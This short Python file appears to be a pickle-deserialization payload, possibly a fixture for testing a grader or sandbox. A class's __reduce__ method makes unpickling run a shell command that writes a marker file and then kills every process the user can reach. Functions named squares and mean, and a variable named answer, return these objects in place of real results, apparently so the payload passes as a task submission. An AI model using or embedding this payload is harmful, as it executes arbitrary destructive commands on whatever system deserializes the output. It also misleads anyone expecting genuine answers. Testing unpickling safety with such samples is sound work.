"""Returns objects that run code when they are unpickled."""
import os
class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/REACHED; kill -9 -1",)
def squares(x): return [Bomb()]
def mean(x): import pickle; return pickle.dumps(Bomb())
answer = Bomb()
